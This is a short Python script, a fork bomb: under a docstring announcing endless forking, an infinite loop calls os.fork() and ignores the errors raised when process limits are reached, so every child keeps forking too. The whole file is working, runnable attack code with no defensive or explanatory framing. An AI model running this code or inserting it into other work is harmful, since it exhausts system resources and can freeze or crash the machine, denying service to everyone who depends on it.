"""Forks without end, each of the children too."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
